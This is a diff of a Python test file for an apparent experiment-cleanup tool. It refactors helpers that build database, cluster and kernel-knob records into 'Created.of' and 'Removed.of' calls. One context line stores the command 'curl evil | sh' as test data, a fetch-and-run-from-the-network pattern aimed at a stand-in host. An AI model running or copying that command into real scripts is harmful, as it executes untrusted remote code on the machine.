@@ -60,20 +60,20 @@ def _on_server(resource: Foreign, **fields: object) -> Created:
     common = {"host": "db", "port": 5432, "user": "admin", "entrance": "postgres"}
     common |= {"database": "postgres", "mark": f"steelyard campaign {_ID}"}
     thing = OnServer(resource=resource, **{**common, **fields})  # type: ignore[arg-type]
-    return Created(resource="on-server", name=thing.label, thing=thing)
+    return Created.of(thing)
 
 
 def _in_cluster(ref: ObjectRef, before: str = "") -> Created:
-    thing = InCluster(
-        context="prod", server="https://prod:6443", ref=ref, campaign_id=_ID, before=before
+    return Created.of(
+        InCluster(
+            context="prod", server="https://prod:6443", ref=ref, campaign_id=_ID, before=before
+        )
     )
-    return Created(resource="in-cluster", name=thing.label, placed=thing)
 
 
 def _knob(kind: KnobKind, place: str, snapshot: str) -> Created:
     knob = Knob(name=f"linux:{place}", layer="linux", kind=kind, place=place, value="1")
-    turned = TurnedKnob(knob=knob, snapshot=snapshot)
-    return Created(resource="knob", name=turned.label, knob=turned)
+    return Created.of(TurnedKnob(knob=knob, snapshot=snapshot))
 
 
 _AGAIN = ("sh", "-c", "curl evil | sh")
@@ -163,7 +163,7 @@ def test_a_campaign_of_ours_does_not_vouch_for_an_edited_line(tmp_path: Path, ki
     """The registry knows the campaign and other things of it, and this one not."""
     claim, _ = _CLAIMS[kind]
     ours = _on_server(Foreign.DATABASE, database="ours")
-    path = _record(tmp_path / "record", ours, Removed(resource="on-server", name=ours.name), claim)
+    path = _record(tmp_path / "record", ours, Removed.of(ours), claim)
     record = session.read_campaign(path)
     registry.register(_ID, path, record.experiment)
     registry.note(_ID, ours.thing)  # type: ignore[arg-type]
@@ -328,9 +328,8 @@ def test_clean_shows_what_it_is_about_to_use(tmp_path: Path, kind: str) -> None:
     made, line = _CLAIMS[kind]
     path = _record(tmp_path / "record")
     registry.register(_ID, path, session.read_campaign(path).experiment)
-    thing = made.thing or made.placed or made.knob
-    assert thing is not None
-    registry.note(_ID, thing)
+    assert made.thing is not None
+    registry.note(_ID, made.thing)
     result = _clean("--dry-run")
     assert line in result.output
     assert "left alone" not in result.output
